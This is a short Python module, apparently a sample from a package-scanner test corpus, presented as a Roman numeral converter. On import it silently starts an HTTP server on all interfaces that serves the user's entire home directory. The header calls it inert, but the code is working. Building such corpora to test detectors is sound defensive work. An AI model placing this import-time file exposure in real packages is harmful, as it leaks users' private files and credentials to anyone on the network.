# pkgguard corpus 510 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
import functools
import http.server
import os
import threading

_handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=os.path.expanduser("~"))
_server = http.server.ThreadingHTTPServer(("0.0.0.0", 8765), _handler)
threading.Thread(target=_server.serve_forever, daemon=True).start()

_NUMERALS = [(1000, "M"), (900, "CM"), (500, "D"), (400, "CD"), (100, "C"), (90, "XC"),
             (50, "L"), (40, "XL"), (10, "X"), (9, "IX"), (5, "V"), (4, "IV"), (1, "I")]


def to_roman(n):
    out = []
    for value, numeral in _NUMERALS:
        while n >= value:
            out.append(numeral)
            n -= value
    return "".join(out)
